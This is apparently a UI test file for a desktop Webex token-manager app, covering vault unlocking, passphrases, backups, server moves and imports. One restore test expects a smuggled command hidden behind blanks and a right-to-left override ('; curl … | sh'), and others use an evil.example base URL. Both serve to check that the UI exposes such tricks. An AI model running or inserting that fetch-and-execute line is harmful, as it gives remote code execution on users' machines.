import { describe, expect, test } from 'vitest'
import { fleetOf, integration, view } from './fake-view.ts'
import {
  backupOf300,
  closed,
  dryRun,
  foreignAnswers,
  foreignBackup,
  importAnswers,
  keptCopies,
  listOfOrgs,
  movedAway,
  readForeign,
  unclear,
  withPassphrase,
} from './keeping-scenes.ts'
import { answer, asked, focused, push, windows } from './window.ts'

const { open } = windows()
const home = view({ fleet: { managers: [integration()], profiles: fleetOf(3, 1) } })
const no = (message: string, field?: string) => ({
  ok: false,
  error: { code: 'refused', message, ...(field === undefined ? {} : { field }) },
})

describe('a closed vault', () => {
  test('takes the whole window, with its sentence and what helps', async () => {
    const ways = ['unlock-keyring', 'restart', 'retry'] as const
    const page = await open({ view: closed('locked', 'What happened, what to do.', ways) })
    await page.getByRole('heading', { name: 'The keychain is locked' }).waitFor()
    await page.getByText('What happened, what to do.').waitFor()
    await page.getByRole('button', { name: 'Unlock the keyring…' }).click()
    await expect.poll(() => asked(page, 'storage.unlock-keyring')).toHaveLength(1)
    await page.getByRole('button', { name: 'Try again' }).click()
    await expect.poll(() => asked(page, 'storage.retry')).toHaveLength(1)
    await page.getByRole('button', { name: 'Restart the app' }).click()
    await expect.poll(() => asked(page, 'app.restart')).toHaveLength(1)
    await push(page, home)
    await page.getByRole('heading', { name: 'Service apps' }).waitFor()
  })

  test('offers only what helps in its state', async () => {
    const page = await open({ view: closed('too-new', 'Install that version.', ['retry']) })
    const names = () => page.getByRole('button').allTextContents()
    await expect.poll(names).toEqual(['Try again', 'Open data folder'])
    await expect.poll(() => page.getByRole('textbox').count()).toBe(0)
  })

  test('asks before anything is stored unprotected', async () => {
    const page = await open({
      view: closed('consent-needed', 'No keyring.', ['set-passphrase', 'accept-weak']),
    })
    expect(await asked(page, 'storage.accept-weak')).toHaveLength(0)
    await page.getByRole('button', { name: 'Store unprotected' }).click()
    await expect.poll(() => asked(page, 'storage.accept-weak')).toHaveLength(1)
  })

  test('takes a new passphrase that is long enough and twice the same, by keyboard alone', async () => {
    const page = await open({
      view: closed('consent-needed', 'No keyring.', ['set-passphrase', 'accept-weak']),
    })
    await focused(page.getByRole('textbox', { name: 'Passphrase', exact: true }))
    await page.keyboard.type('short')
    await page.keyboard.press('Enter')
    await page.getByText('Use at least 12 characters.').waitFor()
    await page.getByRole('textbox', { name: 'Passphrase', exact: true }).fill('correct horse')
    await page.getByRole('textbox', { name: 'Repeat passphrase' }).fill('correct hrose')
    await page.keyboard.press('Enter')
    await page.getByText('The passphrases do not match.').waitFor()
    await page.getByRole('textbox', { name: 'Repeat passphrase' }).fill('correct horse')
    await page.keyboard.press('Enter')
    await expect.poll(() => asked(page, 'storage.passphrase')).toEqual([{ passphrase: 'correct horse' }])
    await expect.poll(() => page.getByRole('textbox', { name: 'Repeat passphrase' }).inputValue()).toBe('')
  })

  test('sends an existing passphrase as typed, blanks and all', async () => {
    const page = await open({
      view: closed('passphrase-needed', 'Enter it.', ['enter-passphrase', 'begin-anew']),
    })
    await focused(page.getByRole('textbox', { name: 'Passphrase', exact: true }))
    await page.keyboard.type(' two blanks ')
    await page.keyboard.press('Enter')
    await expect.poll(() => asked(page, 'storage.passphrase')).toEqual([{ passphrase: ' two blanks ' }])
  })

  test('begins anew at once only where the old data was set aside already', async () => {
    const page = await open({
      view: closed('moved-aside', 'It was kept.', ['restore', 'begin-anew', 'retry']),
    })
    await page.getByRole('button', { name: 'Start with an empty list', exact: true }).click()
    await expect.poll(() => asked(page, 'storage.begin-anew')).toHaveLength(1)
    await push(page, closed('damaged', 'It is damaged.', ['restore', 'begin-anew', 'retry']))
    await page.getByRole('button', { name: 'Start with an empty list…' }).click()
    await page.getByText(/kept in the data folder under another name/).waitFor()
    await expect.poll(() => asked(page, 'storage.begin-anew')).toHaveLength(1)
    await page.getByRole('button', { name: 'Start with an empty list', exact: true }).click()
    await expect.poll(() => asked(page, 'storage.begin-anew')).toHaveLength(2)
  })

  test('restores a backup instead, once its passphrase is right', async () => {
    const page = await open({
      view: closed('moved-aside', 'It was kept.', ['restore', 'begin-anew', 'retry']),
      answers: {
        'backup.choose': { ok: true, value: { file: 'all.satm-backup' } },
        'backup.read': no('That is not the passphrase of this backup.', 'passphrase'),
        'backup.restore': { ok: true, value: { kept: null } },
      },
    })
    await page.getByRole('button', { name: 'Restore a backup…' }).click()
    await page.getByRole('button', { name: 'Choose backup…' }).click()
    await page.getByText('all.satm-backup').waitFor()
    await page.getByRole('textbox', { name: 'Passphrase of the backup' }).fill('wrong one')
    await page.keyboard.press('Enter')
    await page.getByText('That is not the passphrase of this backup.').waitFor()
    await answer(page, 'backup.read', { ok: true, value: { ...backupOf300, notTokens: 0, acting: [] } })
    await page.getByRole('textbox', { name: 'Passphrase of the backup' }).fill('right one')
    await page.keyboard.press('Enter')
    await page.getByText('3 service apps for 300 customers, 1 token manager').waitFor()
    expect(await asked(page, 'backup.restore')).toHaveLength(0)
    await page.getByText("both will invalidate each other's refresh tokens").waitFor()
    await page.getByRole('button', { name: 'Restore paused', exact: true }).click()
    await expect.poll(() => asked(page, 'backup.restore')).toEqual([{ paused: true }])
    // It waits in main now: closing these steps does not take it back.
    await page.getByRole('button', { name: 'Try again' }).waitFor()
    expect(await asked(page, 'backup.forget')).toHaveLength(0)
  })

  test('lists where tokens of a backup would go, whole, before anything is restored', async () => {
    for (const view of [closed('moved-aside', 'It was kept.', ['restore']), home]) {
      const page = await open({
        view,
        hash: view === home ? '#/settings/data' : '',
        answers: {
          'backup.choose': { ok: true, value: { file: 'all.satm-backup' } },
          'backup.read': { ok: true, value: foreignBackup },
          'backup.restore': { ok: true, value: { kept: null } },
        },
      })
      await page.getByRole('button', { name: /^Restore( a backup)?…$/ }).click()
      await page.getByRole('button', { name: 'Choose backup…' }).click()
      await page.getByRole('textbox', { name: 'Passphrase of the backup' }).fill('right one')
      await page.keyboard.press('Enter')
      await page.getByText('242 deliveries, 3 consumers, a webhook.').waitFor()
      await page.getByText('16 of them are held').waitFor()
      await page.getByText('2 entries are not tokens and will not be restored').waitFor()
      await page.getByText('3 records refer to something that is not in this backup').waitFor()
      await page.getByText('1 ID or name looks wrong').waitFor()
      const list = page.getByRole('region', { name: 'Deliveries, consumers and webhook' })
      const items = list.getByRole('listitem')
      expect(await items.count()).toBe(100)
      const texts = await items.allInnerTexts()
      expect(texts[0]).toMatch(/Env file of Orders\s+\/home\/ada\/\.profile\s+Sets PATH, BASH_ENV\s+Held/)
      // Nothing of a command can hide: neither behind blanks nor by turning the text around.
      expect(texts[1]).toMatch(/reload-token {60}; curl -s https:\/\/example\.com\/x\\u\{202e\} \| sh/)
      expect(texts[2]).toContain(
        'Tokens of Orders, Contact Center dashboard of the operations team, 298 more',
      )
      expect(texts[3]).toContain('Tokens of all service apps')
      expect(texts[4]).toMatch(/nobody\s+Tokens of no service apps/)
      expect(texts[5]).toContain('https://alerts.example.com/webex/tokens')
      expect(texts[99]).toContain('As here')
      await list.getByRole('button', { name: 'Show more (146)' }).click()
      await expect.poll(() => items.count()).toBe(200)
      expect(await asked(page, 'backup.restore')).toHaveLength(0)
      await page.getByRole('button', { name: 'Restore', exact: true }).click()
      await expect.poll(() => asked(page, 'backup.restore')).toEqual([{ paused: false }])
      if (view === home) await page.getByText('Held until you confirm: 16.').waitFor()
    }
  })

  test('lets go of a backup that waits, if the person says so', async () => {
    const page = await open({
      view: view({
        storage: {
          kind: 'consent-needed',
          level: 'closed',
          sentence: 'No keyring.',
          ways: ['set-passphrase', 'restore'],
          waiting: backupOf300,
          clouds: [],
        },
      }),
    })
    await page.getByText('It is restored as soon as').waitFor()
    await page.getByRole('button', { name: 'Do not restore it' }).click()
    await expect.poll(() => asked(page, 'backup.forget')).toHaveLength(1)
  })
})

describe('where the Webex cloud is not certain', () => {
  test('each choice names its cloud, and what was chosen goes to main', async () => {
    const page = await open({
      view: closed(
        'other-cloud',
        'It is not known.',
        ['restore', 'quit'],
        [
          { does: 'confirm', baseUrl: 'https://webexapis.com/v1', recommended: true },
          { does: 'use', baseUrl: 'https://api-usgov.webex.com/v1', recommended: false },
        ],
      ),
    })
    await page.getByRole('button', { name: 'Confirm https://webexapis.com/v1' }).waitFor()
    await page.getByRole('button', { name: 'Use https://api-usgov.webex.com/v1' }).click()
    await expect
      .poll(() => asked(page, 'storage.choose-cloud'))
      .toEqual([{ baseUrl: 'https://api-usgov.webex.com/v1' }])
  })

  test.each([
    ['that of a restored backup', [['use', 'https://evil.example/v1', false]], 'Restore a backup…'],
    [
      'one that only a settings file names',
      [
        ['confirm', 'https://evil.example/v1', false],
        ['confirm', 'https://webexapis.com/v1', true],
      ],
      'Confirm https://webexapis.com/v1',
    ],
    ['none', [], 'Restore a backup…'],
    ['the recorded one', [['use', 'https://proxy.example/v1', true]], 'Use https://proxy.example/v1'],
  ] as const)('with %s, the main button is never an address of somebody else', async (_, choices, main) => {
    const clouds = choices.map(([does, baseUrl, recommended]) => ({ does, baseUrl, recommended }))
    const page = await open({ view: closed('other-cloud', 'It is not known.', ['restore', 'quit'], clouds) })
    await page.getByRole('button', { name: 'Quit' }).waitFor()
    expect(await page.locator('main [data-kind=primary]').allInnerTexts()).toEqual([main])
  })

  test('a backup can be restored in its place, and the app be quit', async () => {
    const page = await open({ view: closed('other-cloud', 'It is not known.', ['restore', 'quit']) })
    await page.getByRole('button', { name: 'Quit' }).click()
    await expect.poll(() => asked(page, 'app.quit')).toHaveLength(1)
    await page.getByRole('button', { name: 'Restore a backup…' }).click()
    await page.getByRole('button', { name: 'Choose backup…' }).waitFor()
  })
})

describe('what was moved to a server', () => {
  test('is said in place of everything else, and renewed here only after the question about the server', async () => {
    const page = await open({ view: movedAway })
    await page.getByRole('heading', { name: 'Moved: not renewed here' }).waitFor()
    await page.getByText('moved to a server on Nov 29, 2026').waitFor()
    const names = () => page.getByRole('button').allInnerTexts()
    await expect.poll(names).toEqual(['Renew here again', 'Restore a backup…', 'Quit', 'Open data folder'])
    await page.getByRole('button', { name: 'Renew here again', exact: true }).click()
    await page.getByText('Has the server been stopped?').waitFor()
    await page.getByRole('button', { name: 'Go back' }).click()
    await page.getByRole('button', { name: 'Renew here again', exact: true }).click()
    expect(await asked(page, 'storage.renew-here')).toHaveLength(0)
    await page.getByRole('button', { name: 'The server is stopped' }).click()
    await expect.poll(() => asked(page, 'storage.renew-here')).toHaveLength(1)
  })

  test('a failure to renew here is shown, and a backup of the server can be restored over it', async () => {
    const page = await open({
      view: movedAway,
      answers: { ...foreignAnswers, 'storage.renew-here': no('The disk is full.') },
    })
    await page.getByRole('button', { name: 'Renew here again', exact: true }).click()
    await page.getByRole('button', { name: 'The server is stopped' }).click()
    await page.getByText('The disk is full.').waitFor()
    await page.getByRole('button', { name: 'Restore a backup…' }).click()
    await readForeign(page)
    await page.getByText('The service apps stored here will be replaced.').waitFor()
    await page.getByRole('button', { name: 'Restore', exact: true }).click()
    await expect.poll(() => asked(page, 'backup.restore')).toEqual([{ paused: false }])
  })

  test('is moved by a dialog that says what ends here, and takes the same passphrase as a backup', async () => {
    const page = await open({
      view: home,
      hash: '#/settings/data',
      answers: { 'backup.move': no('No room.') },
    })
    await page.getByRole('button', { name: 'Move to a server…' }).click()
    const dialog = page.getByRole('dialog', { name: 'Move to a server' })
    await dialog.getByText('From then on nothing is renewed here').waitFor()
    const fill = async (text: string) => {
      await dialog.getByRole('textbox', { name: 'Passphrase of the backup' }).fill(text)
      await dialog.getByRole('textbox', { name: 'Repeat passphrase' }).fill(text)
      await dialog.getByRole('button', { name: 'Choose file and move…' }).click()
    }
    await fill('short')
    expect(await asked(page, 'backup.move')).toHaveLength(0)
    await fill('unrelated words of mine')
    await dialog.getByText('No room.').waitFor()
    await answer(page, 'backup.move', { ok: true, value: null })
    await dialog.getByRole('button', { name: 'Choose file and move…' }).click()
    await expect.poll(() => asked(page, 'backup.move')).toHaveLength(2)
    expect(await dialog.count()).toBe(1)
    await push(page, movedAway)
    await page.getByRole('heading', { name: 'Moved: not renewed here' }).waitFor()
    expect(await asked(page, 'backup.write')).toHaveLength(0)
  })
})

describe('a locked window', () => {
  test('shows nothing else, says when the passphrase is wrong, and opens with the right one', async () => {
    const page = await open({
      view: view({ locked: true }),
      answers: { 'lock.open': no('That is not the passphrase.', 'passphrase') },
    })
    await page.getByRole('heading', { name: 'Locked' }).waitFor()
    await expect.poll(() => page.getByRole('navigation').count()).toBe(0)
    const passphrase = page.getByRole('textbox', { name: 'Passphrase', exact: true })
    await focused(passphrase)
    await page.keyboard.type('wrong one')
    await page.keyboard.press('Enter')
    await page.getByText('That is not the passphrase.').waitFor()
    await answer(page, 'lock.open', { ok: true, value: null })
    await expect.poll(() => passphrase.inputValue()).toBe('')
    await focused(passphrase)
    await page.keyboard.type('right one')
    await page.keyboard.press('Enter')
    await expect
      .poll(() => asked(page, 'lock.open'))
      .toEqual([{ passphrase: 'wrong one' }, { passphrase: 'right one' }])
    await push(page, home)
    await page.getByRole('heading', { name: 'Service apps' }).waitFor()
  })
})

describe('the security settings', () => {
  test('set a passphrase beside the keychain or instead of it', async () => {
    const page = await open({ view: home, hash: '#/settings/security' })
    await page.getByRole('button', { name: 'Set a passphrase…' }).click()
    await page.getByRole('radio', { name: /Instead of the keychain/ }).check()
    await page.getByRole('textbox', { name: 'Passphrase', exact: true }).fill('correct horse')
    await page.getByRole('textbox', { name: 'Repeat passphrase' }).fill('correct horse')
    await page.getByRole('button', { name: 'Set passphrase' }).click()
    await expect
      .poll(() => asked(page, 'security.set-passphrase'))
      .toEqual([{ passphrase: 'correct horse', mode: 'alone' }])
    await page.getByText('Passphrase set.').waitFor()
  })

  test('show what did not follow a change of the passphrase, and nothing where all did', async () => {
    const page = await open({ view: withPassphrase, hash: '#/settings/security' })
    const change = async () => {
      await page.getByRole('button', { name: 'Change passphrase…' }).click()
      await page.getByRole('textbox', { name: 'Current passphrase' }).fill('correct horse')
      await page.getByRole('textbox', { name: 'New passphrase' }).fill('battery staple')
      await page.getByRole('textbox', { name: 'Repeat passphrase' }).fill('battery staple')
      await page.keyboard.press('Enter')
      await page.getByText('Passphrase changed.').first().waitFor()
    }
    await change()
    await page.getByRole('dialog').waitFor({ state: 'detached' })
    await answer(page, 'copies.list', { ok: true, value: { copies: keptCopies } })
    await change()
    await page.getByRole('heading', { name: 'Kept copies' }).waitFor()
    await page.getByRole('button', { name: 'Done' }).click()
    expect(await asked(page, 'copies.remove')).toEqual([])
  })

  test('say at the field that the current passphrase is wrong', async () => {
    const page = await open({
      view: withPassphrase,
      hash: '#/settings/security',
      answers: {
        'security.change-passphrase': no('That is not the passphrase. Nothing was changed.', 'passphrase'),
      },
    })
    await page.getByRole('button', { name: 'Change passphrase…' }).click()
    await page.getByRole('textbox', { name: 'Current passphrase' }).fill('wrong')
    await page.getByRole('textbox', { name: 'New passphrase' }).fill('battery staple')
    await page.getByRole('textbox', { name: 'Repeat passphrase' }).fill('battery staple')
    await page.keyboard.press('Enter')
    await page.getByText('That is not the passphrase. Nothing was changed.').waitFor()
    const current = page.getByRole('textbox', { name: 'Current passphrase' })
    await expect.poll(() => current.getAttribute('aria-invalid')).toBe('true')
    await expect
      .poll(() => asked(page, 'security.change-passphrase'))
      .toEqual([{ passphrase: 'wrong', next: 'battery staple' }])
  })

  test('offer the lock only with a passphrase', async () => {
    const page = await open({ view: home, hash: '#/settings/security' })
    await page.getByRole('button', { name: 'Set a passphrase…' }).waitFor()
    await page.getByText(/^Set a passphrase first/).waitFor()
    expect(await page.getByLabel('Lock the window when idle for').isDisabled()).toBe(true)
    expect(await page.getByLabel('Lock the window with the screen').isDisabled()).toBe(true)
    expect(await page.getByRole('button', { name: 'Lock now' }).isDisabled()).toBe(true)
    await push(page, withPassphrase)
    await page.getByLabel('Lock the window when idle for').selectOption('15 minutes')
    await page.getByRole('button', { name: 'Lock now' }).click()
    await page.getByLabel('Lock the window with the screen').click()
    await expect
      .poll(() => asked(page, 'settings.save'))
      .toEqual([{ lockAfterMinutes: 15 }, { lockWithScreen: false }])
    await expect.poll(() => asked(page, 'lock.now')).toHaveLength(1)
  })

  test('say what the time of the lock is counted from where the desktop does not tell', async () => {
    const app = { idleCountsFrom: 'window' as const }
    const { storage } = withPassphrase
    const page = await open({ view: view({ storage, app }), hash: '#/settings/security' })
    const sentence = page.getByText(/This desktop does not report how long you have been away/)
    await page.getByLabel('Lock the window when idle for').waitFor()
    expect(await sentence.count()).toBe(0)
    await push(page, view({ storage, app, settings: { lockAfterMinutes: 5 } }))
    await sentence.waitFor()
  })
})

describe('the data settings', () => {
  test('list the copies that are kept, those that nothing covers first, and delete what is chosen', async () => {
    const page = await open({
      view: home,
      hash: '#/settings/data',
      answers: { 'copies.list': { ok: true, value: { copies: keptCopies } } },
    })
    await page.getByRole('button', { name: 'Show copies…' }).click()
    const list = page.getByRole('list', { name: 'Kept copies' })
    await expect.poll(() => list.getByRole('listitem').count()).toBe(4)
    const texts = await list.getByRole('listitem').allInnerTexts()
    expect(texts[0]).toMatch(
      /Could not be opened, .*2026.*, 87 kB\s+vault-set-aside-2026.*\s+Still opens with/,
    )
    expect(texts[1]).toContain('Cannot be read')
    expect(texts[2]).toContain('Before a restore')
    await page.getByText('2 copies do not follow your passphrase or keychain').waitFor()
    await page.getByRole('button', { name: `Delete ${keptCopies[1]?.name}` }).click()
    expect(await asked(page, 'copies.remove')).toHaveLength(0)
    await page.getByRole('button', { name: 'Keep', exact: true }).click()
    await page.getByRole('button', { name: `Delete ${keptCopies[1]?.name}` }).click()
    await page.getByRole('button', { name: 'Delete', exact: true }).click()
    await expect.poll(() => list.getByRole('listitem').count()).toBe(3)
    await page.getByRole('button', { name: 'Delete all copies…' }).click()
    await page.getByRole('heading', { name: 'Delete 3 copies?' }).waitFor()
    await page.getByRole('button', { name: 'Delete', exact: true }).click()
    await page.getByText('No copies.').waitFor()
    expect(await asked(page, 'copies.remove')).toEqual([
      { names: [keptCopies[1]?.name] },
      { names: [0, 2, 3].map((n) => keptCopies[n]?.name) },
    ])
  })

  test('back up under a passphrase and say where and how much', async () => {
    const page = await open({
      view: home,
      hash: '#/settings/data',
      answers: {
        'backup.write': {
          ok: true,
          value: {
            path: '/media/stick/all.satm-backup',
            serviceApps: 3,
            customers: 95,
            managers: 1,
            attempts: 88,
            leftOut: 0,
          },
        },
      },
    })
    await page.getByRole('button', { name: 'Back up…' }).click()
    await page.getByRole('textbox', { name: 'Passphrase of the backup' }).fill('correct horse')
    await page.getByRole('textbox', { name: 'Repeat passphrase' }).fill('correct horse')
    await page.keyboard.press('Enter')
    await page.getByText('3 service apps for 95 customers, 1 token manager, 88 history rows.').waitFor()
    await page.getByText('/media/stick/all.satm-backup').waitFor()
    await expect.poll(() => asked(page, 'backup.write')).toEqual([{ passphrase: 'correct horse' }])
  })

  test('say how strong the passphrase of a backup is while it is typed, and take no weak one', async () => {
    const page = await open({ view: home, hash: '#/settings/data' })
    await page.getByRole('button', { name: 'Back up…' }).click()
    const strength = page.getByRole('status').filter({ has: page.getByRole('meter', { name: 'Strength' }) })
    const passphrase = page.getByRole('textbox', { name: 'Passphrase of the backup' })
    for (const [text, words] of [
      ['Passw0rd1234!', /^Weak/],
      ['blue kettle 7', /^Fair/],
      ['blue kettle orbits slowly', /^Strong/],
    ] as const) {
      await passphrase.fill(text)
      await expect.poll(() => strength.textContent()).toMatch(words)
    }
    for (const [text, why] of [
      ['blue kettle', 'Use at least 12 characters.'],
      ['Passw0rd1234!', 'This passphrase is easy to guess. Use several unrelated words.'],
    ] as const) {
      await passphrase.fill(text)
      await page.getByRole('textbox', { name: 'Repeat passphrase' }).fill(text)
      await page.keyboard.press('Enter')
      await page.getByText(why).waitFor()
    }
    expect(await asked(page, 'backup.write')).toHaveLength(0)
    await passphrase.fill('')
    await expect.poll(() => strength.count()).toBe(0)
  })

  test('forget a backup that was read and then not restored', async () => {
    const page = await open({ view: home, hash: '#/settings/data' })
    await page.getByRole('button', { name: 'Restore…' }).click()
    await page.getByRole('dialog', { name: 'Restore a backup' }).waitFor()
    await page.keyboard.press('Escape')
    await expect.poll(() => asked(page, 'backup.forget')).toHaveLength(1)
  })

  test('export the list and say where it lies', async () => {
    const page = await open({
      view: home,
      hash: '#/settings/data',
      answers: { 'list.export': { ok: true, value: { path: '/home/ada/list.csv' } } },
    })
    await page.getByRole('button', { name: 'Export as CSV…' }).click()
    await page.getByText('List exported to /home/ada/list.csv').waitFor()
    await expect.poll(() => asked(page, 'list.export')).toEqual([{ format: 'csv' }])
  })
})

describe('the import', () => {
  const opened = async () => {
    const page = await open({
      view: home,
      answers: {
        ...importAnswers,
        'import.confirm': { ok: true, value: { kind: 'imported', profiles: 300, tokenManager: null } },
      },
    })
    await page.getByRole('button', { name: 'Import', exact: true }).click()
    return page
  }

  test('shows every row with its verdict before anything comes in', async () => {
    const page = await opened()
    await page.getByRole('button', { name: 'Choose file…' }).click()
    await page.getByText('300 of 304 rows are ready, 4 rejected. Nothing is stored yet.').waitFor()
    const row = page.getByRole('row').filter({ hasText: 'Same as line 3.' })
    await expect.poll(() => row.innerText()).toContain('Customer 5')
    await expect.poll(() => row.innerText()).toContain('Acme 5')
    await page.getByText('created, Contract no., notes and 2 more').waitFor()
    await page.getByText('1 line above the columns or starting with #').waitFor()
    expect(await asked(page, 'import.confirm')).toHaveLength(0)
    await page.getByRole('button', { name: 'Show more (204)' }).click()
    await page.getByRole('dialog').getByLabel('Show').selectOption('Rejected')
    await expect
      .poll(() => asked(page, 'import.rows'))
      .toEqual([
        { id: 'import-1', only: 'all', from: 0 },
        { id: 'import-1', only: 'all', from: 100 },
        { id: 'import-1', only: 'refused', from: 0 },
      ])
  })

  test('takes in all that may come in once it is confirmed', async () => {
    const page = await opened()
    await page.getByRole('button', { name: 'Choose file…' }).click()
    await page.getByRole('button', { name: 'Import 300 rows' }).click()
    await page.getByText(/300 rows imported/).waitFor()
    await expect.poll(() => asked(page, 'import.confirm')).toEqual([{ id: 'import-1', profileId: null }])
    await expect.poll(() => page.getByRole('dialog').count()).toBe(0)
  })

  test('says that it comes in as a whole, and cannot be closed while it does', async () => {
    const page = await opened()
    await page.evaluate(() => {
      const later = new Promise((resolve) => window.addEventListener('stored', resolve, { once: true }))
      const value = { kind: 'imported', profiles: 300, tokenManager: null }
      window.fake.answers['import.confirm'] = later.then(() => ({ ok: true, value }))
    })
    await page.getByRole('button', { name: 'Choose file…' }).click()
    await page.getByRole('button', { name: 'Import 300 rows' }).click()
    await page.getByRole('progressbar', { name: 'Importing' }).waitFor()
    await page.getByText('Importing 300 rows in one step: all or none.').waitFor()
    await page.keyboard.press('Escape')
    await page.getByRole('button', { name: 'Close' }).click()
    await page.getByRole('progressbar', { name: 'Importing' }).waitFor()
    expect(await asked(page, 'import.forget')).toHaveLength(0)
    await page.evaluate(() => window.dispatchEvent(new Event('stored')))
    await expect.poll(() => page.getByRole('dialog').count()).toBe(0)
  })

  test('shows a new dry run when the list changed meanwhile', async () => {
    const page = await opened()
    const changed = { kind: 'changed', dryRun: { ...dryRun, id: 'import-2', comingIn: 299, refused: 5 } }
    await answer(page, 'import.confirm', { ok: true, value: changed })
    await page.getByRole('button', { name: 'Choose file…' }).click()
    await page.getByRole('button', { name: 'Import 300 rows' }).click()
    await page.getByText(/The list has changed/).waitFor()
    await page.getByRole('button', { name: 'Import 299 rows' }).waitFor()
  })

  test('says why a file is refused as a whole', async () => {
    const page = await opened()
    await answer(page, 'import.choose', no('The file is too large: 60 MB. The limit is 50 MB.'))
    await page.getByRole('button', { name: 'Choose file…' }).click()
    await page.getByRole('alert').getByText('The file is too large: 60 MB').waitFor()
  })

  test('sends what was pasted and keeps nothing of it in the page', async () => {
    const page = await opened()
    await answer(page, 'import.paste', no('This is no JSON.'))
    await page.getByRole('textbox', { name: 'Or paste its content' }).fill('{"clientSecret":"c4n4ry"}')
    await page.getByRole('button', { name: 'Check pasted text' }).click()
    await page.getByText('This is no JSON.').waitFor()
    await expect.poll(() => asked(page, 'import.paste')).toEqual([{ text: '{"clientSecret":"c4n4ry"}' }])
    await expect.poll(() => page.getByRole('textbox', { name: 'Or paste its content' }).inputValue()).toBe('')
  })

  test('asks whose tokens a .env holds', async () => {
    const page = await opened()
    const { found } = dryRun
    const tokens = { accessToken: true, refreshToken: false, tokenManager: null, found }
    const value = { kind: 'tokens', id: 'import-3', file: '.env', ...tokens }
    await answer(page, 'import.choose', { ok: true, value })
    await page.getByRole('button', { name: 'Choose file…' }).click()
    await page.getByText('The file contains an access token but does not name the service app.').waitFor()
    await page.getByLabel('Service app', { exact: true }).selectOption({ index: 1 })
    await page.getByRole('button', { name: 'Import tokens' }).click()
    await expect
      .poll(() => asked(page, 'import.confirm'))
      .toMatchObject([{ id: 'import-3', profileId: expect.stringMatching(/^profile-/) }])
  })

  test('asks once for the service app of a list of orgs, and keeps nothing of what was typed', async () => {
    const page = await opened()
    await answer(page, 'import.choose', { ok: true, value: listOfOrgs })
    await answer(page, 'import.complete', {
      ok: false,
      error: { code: 'invalid', message: 'Something is still missing.', field: 'clientSecret' },
    })
    await page.getByRole('button', { name: 'Choose file…' }).click()
    await page.getByText('2 customers found, without their service app.').waitFor()
    await page.getByLabel('Service app of these customers').waitFor()
    await page.getByRole('textbox', { name: 'Client ID' }).fill('C1')
    await page.getByRole('textbox', { name: 'Client ID' }).press('Enter')
    await page.getByText('Something is still missing.').waitFor()
    const secret = page.getByRole('textbox', { name: 'Client secret' })
    await expect.poll(() => secret.evaluate((field) => field === document.activeElement)).toBe(true)
    await secret.fill('c4n4ry')
    await answer(page, 'import.complete', { ok: true, value: { ...dryRun, id: 'import-6' } })
    await page.getByRole('button', { name: 'Continue' }).click()
    await page.getByRole('button', { name: 'Import 300 rows' }).waitFor()
    const typed = { kind: 'typed', appId: null, clientId: 'C1' }
    await expect
      .poll(() => asked(page, 'import.complete'))
      .toEqual([
        { id: 'import-4', roles: {}, serviceApp: { ...typed, clientSecret: null }, targetOrgId: null },
        { id: 'import-4', roles: {}, serviceApp: { ...typed, clientSecret: 'c4n4ry' }, targetOrgId: null },
      ])
    expect(await page.content()).not.toContain('c4n4ry')
  })

  test('offers the service apps that are here, each once', async () => {
    const page = await opened()
    await answer(page, 'import.choose', { ok: true, value: listOfOrgs })
    await answer(page, 'import.complete', { ok: true, value: { ...dryRun, id: 'import-6' } })
    await page.getByRole('button', { name: 'Choose file…' }).click()
    await page.getByLabel('Service app of these customers').selectOption({ index: 1 })
    await expect.poll(() => page.getByRole('textbox', { name: 'Client secret' }).count()).toBe(0)
    await page.getByRole('button', { name: 'Continue' }).click()
    await expect
      .poll(() => asked(page, 'import.complete'))
      .toMatchObject([{ serviceApp: { kind: 'stored', profileId: expect.stringMatching(/^profile-/) } }])
  })

  test('asks what each set of variables is for that does not say it', async () => {
    const page = await opened()
    await answer(page, 'import.choose', { ok: true, value: unclear })
    await answer(page, 'import.complete', { ok: true, value: { ...dryRun, id: 'import-6' } })
    await page.getByRole('button', { name: 'Choose file…' }).click()
    await page.getByLabel('1. CLIENT_ID, CLIENT_SECRET').selectOption('Service app')
    await page.getByRole('button', { name: 'Continue', disabled: true }).waitFor()
    await page.getByLabel('2. WEBEX_ACCESS_TOKEN').selectOption('Token manager (personal access token)')
    await page.getByRole('button', { name: 'Continue' }).click()
    const roles = { 'set-a': 'service-app', 'set-b': 'token-manager' }
    await expect
      .poll(() => asked(page, 'import.complete'))
      .toEqual([{ id: 'import-5', roles, serviceApp: null, targetOrgId: null }])
  })

  test('imports a token manager alone, and says of which kind it is', async () => {
    const page = await opened()
    const manager = { kind: 'personal-access-token', connects: true }
    const value = { ...dryRun, comingIn: 0, refused: 0, tokenManager: manager }
    await answer(page, 'import.choose', { ok: true, value })
    const outcome = { kind: 'imported', profiles: 0, tokenManager: 'personal-access-token' }
    await answer(page, 'import.confirm', { ok: true, value: outcome })
    await page.getByRole('button', { name: 'Choose file…' }).click()
    await page.getByText('Personal access token. Connected with the import.').waitFor()
    await page.getByRole('button', { name: 'Import token manager' }).click()
    await page.getByText('The personal access token is connected.').waitFor()
  })

  test('saves a template', async () => {
    const page = await opened()
    await answer(page, 'import.template', { ok: true, value: { path: '/home/ada/template.csv' } })
    await page.getByRole('button', { name: 'Save CSV template…' }).click()
    await page.getByText('Template saved as /home/ada/template.csv').waitFor()
  })

  test('makes main forget what was read when the dialog is closed', async () => {
    const page = await opened()
    await page.getByRole('button', { name: 'Choose file…' }).click()
    await page.getByRole('button', { name: 'Import 300 rows' }).waitFor()
    await page.keyboard.press('Escape')
    await expect.poll(() => asked(page, 'import.forget')).toHaveLength(1)
  })
})
